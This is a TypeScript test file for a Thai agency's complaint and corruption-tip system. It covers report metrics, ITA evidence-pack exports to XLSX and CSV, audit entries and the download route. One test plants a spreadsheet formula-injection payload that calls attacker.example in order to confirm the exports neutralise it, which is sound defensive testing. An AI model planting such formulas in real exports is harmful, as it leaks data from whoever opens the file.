import type { LoaderFunctionArgs } from "@remix-run/node";
import ExcelJS from "exceljs";
import { beforeEach, expect, it } from "vitest";
import { createSession } from "../../app/auth/sessions.server";
import { staffSessionCookie } from "../../app/auth/staff-request.server";
import { createStaffUser } from "../../app/auth/staff-users.server";
import { loadBusinessCalendar } from "../../app/calendar/business-calendar.server";
import { performCaseAction, type CaseCommand } from "../../app/cases/case-actions.server";
import type { StaffMember } from "../../app/cases/case-workspace.server";
import type { CaseChannel, CaseKind, StaffRole } from "../../app/db.server";
import { fileCase, privacyNoticeVersion } from "../../app/intake/intake.server";
import { buildEvidencePack, evidenceTables } from "../../app/reports/evidence-pack";
import { defaultItaItemCodes } from "../../app/reports/metric-definitions";
import { computeMetrics } from "../../app/reports/metrics.server";
import { parseCsv } from "../../app/reports/report-export";
import { exportEvidencePack, itaItemCodesSettingKey, loadReportView, type ExportFile } from "../../app/reports/report-view.server";
import { evidenceSheetNames } from "../../app/reports/report-workbook.server";
import * as exportRoute from "../../app/routes/staff.reports.export";
import type { AppServices } from "../../app/services.server";
import { prepareDatabase } from "../../app/startup.server";
import { describeEachDialect } from "../support/databases";
import { testServices } from "../support/services";

/**
 * The reports page's figures, the evidence pack and its exports over a small known history in
 * fiscal year 2569 (1 Oct 2025 – 30 Sep 2026), reported on 16 March 2026:
 * - a tip by web, anonymous, Mon 6 Oct 2025, acknowledged the next day, still open;
 * - a complaint by phone, named, Mon 3 Nov 2025, acknowledged within the hour, resolved Mon 10 Nov;
 * - a question by LINE, named, Mon 5 Jan 2026, never touched.
 * The exports are read back and their numbers compared with `computeMetrics` of the same year.
 */

const bangkok = (iso: string) => Date.parse(`${iso}+07:00`);
const reportTime = bangkok("2026-03-16T12:00:00");

describeEachDialect("reports and the ITA evidence pack", (current) => {
  let services: AppServices;
  let supervisor: StaffMember;

  beforeEach(async () => {
    services = testServices(current());
    await prepareDatabase(services, bangkok("2025-09-01T00:00:00"));
    const make = async (role: StaffRole, email: string, teamCode: string | null): Promise<StaffMember> => {
      const created = await createStaffUser(services, { email, displayName: email, role, teamCode, password: "ม้าลายกินหญ้าริมน้ำ-2569" }, { type: "system" }, bangkok("2025-09-01T00:00:00"));
      if (!("staffUserId" in created)) throw new Error(JSON.stringify(created));
      const teamId = teamCode ? (await services.db.selectFrom("teams").select("id").where("code", "=", teamCode).executeTakeFirstOrThrow()).id : null;
      return { id: created.staffUserId, role, teamId };
    };
    const integrity = await make("investigator", "sudar@agency.example", "integrity");
    const service = await make("investigator", "niran@agency.example", "service");
    supervisor = await make("supervisor", "prasert@agency.example", "service");

    const file = async (kind: CaseKind, categoryCode: string, channel: CaseChannel, named: boolean, at: string) => {
      const result = await fileCase(
        services,
        { kind, categoryCode, narrative: "รายละเอียดของเรื่อง", details: {}, reporterRelation: "outside", ...(named ? { identity: { name: "สมหญิง ใจดี" }, consentVersion: privacyNoticeVersion } : {}), files: [] },
        { channel },
        bangkok(at),
      );
      if (!("receipt" in result)) throw new Error(JSON.stringify(result));
      return result.receipt.caseId;
    };
    const act = async (member: StaffMember, caseId: string, command: CaseCommand, at: string) => {
      const result = await performCaseAction(services, member, caseId, command, bangkok(at));
      if (!("done" in result)) throw new Error(`${command.type}: ${JSON.stringify(result)}`);
    };
    const tip = await file("corruption_tip", "corruption.bribery", "web", false, "2025-10-06T09:00:00");
    await act(integrity, tip, { type: "acknowledge" }, "2025-10-07T09:00:00");
    const complaint = await file("complaint", "complaint.service_quality", "phone", true, "2025-11-03T10:00:00");
    await act(service, complaint, { type: "acknowledge" }, "2025-11-03T11:00:00");
    await act(service, complaint, { type: "resolve", outcome: "action_taken" }, "2025-11-10T10:00:00");
    await file("question", "question.general", "line", true, "2026-01-05T09:00:00");
  });

  async function metricsOfYear(filters: { teamId?: string; categoryCode?: string } = {}) {
    const calendar = await loadBusinessCalendar(services.db);
    const query = { fiscalYear: 2569, now: reportTime, ...filters };
    return { year: await computeMetrics(services.db, { ...query, period: "year" }, calendar), month: await computeMetrics(services.db, { ...query, period: "month" }, calendar) };
  }

  it("shows a quarter's figures and each of its months, zero where nothing happened", async () => {
    const view = await loadReportView(services, { fiscalYear: 2569, period: { kind: "quarter", quarter: 1 }, teamCode: null, categoryCode: null }, reportTime);
    expect(view.periodKey).toBe("2569-Q1");
    expect(view.selected.values.received).toBe(2);
    expect(view.selected.values.completed).toBe(1);
    expect(view.selected.values.openAtEnd).toBe(1);
    expect(view.selected.values.receivedByChannel).toMatchObject({ web: 1, phone: 1, line: 0, email: 0 });
    expect(view.selected.values.receivedByCategory).toMatchObject({ "corruption.bribery": 1, "complaint.service_quality": 1, "question.general": 0 });
    expect(view.selected.values.acknowledgedOnTime).toEqual({ met: 2, total: 2, percent: 100 });
    expect(view.months.map((month) => [month.key, month.values.received, month.values.completed])).toEqual([
      ["2569-M01", 1, 0],
      ["2569-M02", 1, 1],
      ["2569-M03", 0, 0],
    ]);
    // The page's figures are computeMetrics's, period for period.
    const calendar = await loadBusinessCalendar(services.db);
    const quarters = await computeMetrics(services.db, { fiscalYear: 2569, period: "quarter", now: reportTime }, calendar);
    expect(view.selected.values).toEqual(quarters.periods[0]!.values);
    expect(view.teams.map((team) => team.code)).toEqual(["digital", "integrity", "service"]);
  });

  it("narrows to a team and a category by code, and drops a code that names none", async () => {
    const byTeam = await loadReportView(services, { fiscalYear: 2569, period: { kind: "year" }, teamCode: "service", categoryCode: null }, reportTime);
    expect(byTeam.teamCode).toBe("service");
    expect(byTeam.selected.values.received).toBe(2);
    expect(byTeam.selected.values.corruptionReceived).toBe(0);
    const byCategory = await loadReportView(services, { fiscalYear: 2569, period: { kind: "month", fiscalMonth: 4 }, teamCode: null, categoryCode: "question.general" }, reportTime);
    expect(byCategory.selected.values.received).toBe(1);
    expect(byCategory.months).toHaveLength(1);
    const unknown = await loadReportView(services, { fiscalYear: 2569, period: { kind: "year" }, teamCode: "nobody", categoryCode: null }, reportTime);
    expect(unknown.teamCode).toBeNull();
    expect(unknown.selected.values.received).toBe(3);
  });

  it("exports an XLSX that reads back with Thai sheet names and headers and computeMetrics's numbers, and audits it", async () => {
    const file = (await exportEvidencePack(services, { type: "staff", user: supervisor }, { fiscalYear: 2569, teamCode: null, categoryCode: null }, "xlsx", reportTime)) as ExportFile;
    expect(file.fileName).toBe("prongsai-ita-2569.xlsx");
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(file.bytes as unknown as ArrayBuffer);
    const names = evidenceSheetNames({ codes: defaultItaItemCodes });
    expect(workbook.worksheets.map((sheet) => sheet.name)).toEqual([names.about, ...names.groups, names.definitions]);
    expect(names).toEqual({ about: "ข้อมูลเอกสาร", groups: ["ตัวชี้วัดที่ 5", "ตัวชี้วัดที่ 7", "OIT เรื่องร้องเรียน"], definitions: "วิธีนับ" });

    const about = workbook.getWorksheet(names.about)!;
    expect(about.getCell("A2").value).toBe("ปีงบประมาณ");
    expect(about.getCell("B2").value).toBe("ปีงบประมาณ พ.ศ. 2569");
    expect(about.getCell("B3").value).toBe("16 มีนาคม 2569 เวลา 12:00 น.");

    const sheetRows = (name: string) => {
      const rows: unknown[][] = [];
      workbook.getWorksheet(name)!.eachRow({ includeEmpty: false }, (row) => rows.push((row.values as unknown[]).slice(1)));
      return rows;
    };
    const oit = sheetRows(names.groups[2]!);
    expect(oit[0]!.slice(0, 7)).toEqual(["ข้อการประเมิน", "ตัวเลข", "รายการ", "หน่วย", "ปีงบประมาณ พ.ศ. 2569", "ตุลาคม 2568", "พฤศจิกายน 2568"]);
    expect(oit[0]![oit[0]!.length - 1]).toBe("วิธีนับ");
    const corruptionReceived = oit.find((row) => row[0] === "ข้อ O29 ข้อมูลเชิงสถิติเรื่องร้องเรียนการทุจริต" && row[1] === "เรื่องร้องเรียนการทุจริตที่ได้รับ")!;
    // The year, then October to September: one tip in October, explicit zeros elsewhere.
    expect(corruptionReceived.slice(4, 17)).toEqual([1, 1, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0]);

    // Every number of every group sheet is computeMetrics's, for the year and each month.
    const { year, month } = await metricsOfYear();
    const expected = evidenceTables(buildEvidencePack(year, month, defaultItaItemCodes, null), "th");
    expected.forEach(({ table }, index) => {
      const rows = sheetRows(names.groups[index]!);
      expect(rows[0]).toEqual(table.headers);
      // exceljs drops trailing empty cells; a share of no case is an empty cell, read back as undefined.
      expect(rows.slice(1).map((row) => table.headers.map((_, column) => row[column] ?? null))).toEqual(table.rows);
    });

    const entry = await services.db.selectFrom("audit_log").selectAll().where("action", "=", "reports.exported").executeTakeFirstOrThrow();
    expect(entry).toMatchObject({ actor_type: "staff", actor_id: supervisor.id, target_type: "report", target_id: "2569" });
    expect(JSON.parse(entry.details!)).toEqual({ fy: 2569, format: "xlsx", team: null, category: null });
  });

  it("exports a CSV with a byte-order mark that parses back into the same figures", async () => {
    const integrityTeam = await services.db.selectFrom("teams").select("id").where("code", "=", "integrity").executeTakeFirstOrThrow();
    const file = (await exportEvidencePack(services, { type: "system" }, { fiscalYear: 2569, teamCode: "integrity", categoryCode: null }, "csv", reportTime)) as ExportFile;
    expect(file.fileName).toBe("prongsai-ita-2569-team-integrity.csv");
    expect([...file.bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const rows = parseCsv(file.bytes.toString("utf8"));
    expect(rows[3]).toEqual(["ทีม", "ศูนย์ปฏิบัติการต่อต้านการทุจริต"]);
    const headerIndex = rows.findIndex((row) => row[0] === "กลุ่ม");
    expect(rows[headerIndex - 1]).toEqual([""]);

    const { year, month } = await metricsOfYear({ teamId: integrityTeam.id });
    const expected = evidenceTables(buildEvidencePack(year, month, defaultItaItemCodes, "integrity"), "th");
    expect(rows[headerIndex]).toEqual(["กลุ่ม", ...expected[0]!.table.headers]);
    const expectedRows = expected.flatMap(({ title, table }) => table.rows.map((row) => [title, ...row.map((cell) => (cell === null ? "" : String(cell)))]));
    expect(rows.slice(headerIndex + 1)).toEqual(expectedRows);
    const tipsReceived = rows.find((row) => row[1] === "ข้อ O29 ข้อมูลเชิงสถิติเรื่องร้องเรียนการทุจริต" && row[2] === "เรื่องร้องเรียนการทุจริตที่ได้รับ")!;
    expect(tipsReceived.slice(5, 8)).toEqual(["1", "1", "0"]);

    const entry = await services.db.selectFrom("audit_log").selectAll().where("action", "=", "reports.exported").executeTakeFirstOrThrow();
    expect(entry).toMatchObject({ actor_type: "system", actor_id: null });
    expect(JSON.parse(entry.details!)).toEqual({ fy: 2569, format: "csv", team: "integrity", category: null });
  });

  it("writes a name that a spreadsheet would run as a formula as text, in the CSV and in the XLSX", async () => {
    const formula = '=HYPERLINK("https://attacker.example/?"&A1,"open")';
    await services.db.updateTable("categories").set({ name_th: formula }).where("code", "=", "corruption.bribery").execute();
    const selection = { fiscalYear: 2569, teamCode: null, categoryCode: "corruption.bribery" };

    const csv = (await exportEvidencePack(services, { type: "system" }, selection, "csv", reportTime)) as ExportFile;
    const rows = parseCsv(csv.bytes.toString("utf8"));
    expect(rows).toContainEqual(["หมวดหมู่", `'${formula}`]);
    expect(rows.flat().filter((field) => /^[=+\-@\t\r]/.test(field))).toEqual([]);

    const xlsx = (await exportEvidencePack(services, { type: "system" }, selection, "xlsx", reportTime)) as ExportFile;
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(xlsx.bytes as unknown as ArrayBuffer);
    const cells: ExcelJS.Cell[] = [];
    workbook.eachSheet((sheet) => sheet.eachRow((row) => row.eachCell((cell) => cells.push(cell))));
    // exceljs stores a plain string as a string cell: the name is there, verbatim, and no cell anywhere is a formula.
    expect(cells.some((cell) => cell.type === ExcelJS.ValueType.String && cell.value === formula)).toBe(true);
    expect(cells.filter((cell) => cell.type === ExcelJS.ValueType.Formula)).toEqual([]);
  });

  it("prints the year's item codes from the settings, and refuses an export for a team that does not exist", async () => {
    await services.db.insertInto("settings").values({ key: itaItemCodesSettingKey, value: JSON.stringify({ "2569": { corruptionStatistics: "O30", indicator7: "8" } }), updated_at: reportTime }).execute();
    const file = (await exportEvidencePack(services, { type: "system" }, { fiscalYear: 2569, teamCode: null, categoryCode: null }, "csv", reportTime)) as ExportFile;
    const rows = parseCsv(file.bytes.toString("utf8"));
    expect(rows.some((row) => row[1] === "ข้อ O30 ข้อมูลเชิงสถิติเรื่องร้องเรียนการทุจริต")).toBe(true);
    expect(rows.some((row) => row[1] === "ข้อ O29 ข้อมูลเชิงสถิติเรื่องร้องเรียนการทุจริต")).toBe(false);
    expect(rows.some((row) => row[0] === "ตัวชี้วัดที่ 8 ประสิทธิภาพการสื่อสาร (EIT)")).toBe(true);

    expect(await exportEvidencePack(services, { type: "system" }, { fiscalYear: 2569, teamCode: "nobody", categoryCode: null }, "csv", reportTime)).toEqual({ problem: "unknown_team" });
    const exported = await services.db.selectFrom("audit_log").select("sequence").where("action", "=", "reports.exported").execute();
    expect(exported).toHaveLength(1);
  });

  it("sends the download as a fresh attachment through the route", async () => {
    const { cookieValue } = await createSession(services.db, supervisor.id, Date.now(), { mfaVerified: true });
    const cookie = (await staffSessionCookie(false).serialize(cookieValue)).split(";")[0]!;
    const request = new Request("http://localhost/staff/reports/export?fy=2569&format=xlsx&category=corruption.bribery", { headers: { Cookie: cookie } });
    const response = (await exportRoute.loader({ request, context: { services }, params: {} } as unknown as LoaderFunctionArgs)) as Response;
    expect(response.status).toBe(200);
    expect(response.headers.get("Content-Disposition")).toBe('attachment; filename="prongsai-ita-2569-category-corruption.bribery.xlsx"');
    expect(response.headers.get("Cache-Control")).toBe("no-store");
    expect(response.headers.get("Content-Type")).toBe("application/vnd.openxmlformats-officedocument.spreadsheetml.sheet");
    const bytes = Buffer.from(await response.arrayBuffer());
    expect(bytes.subarray(0, 2).toString("latin1")).toBe("PK");

    const refused = new Request("http://localhost/staff/reports/export?fy=2569&format=pdf", { headers: { Cookie: cookie } });
    await expect(exportRoute.loader({ request: refused, context: { services }, params: {} } as unknown as LoaderFunctionArgs)).rejects.toMatchObject({ status: 400 });
  });
});
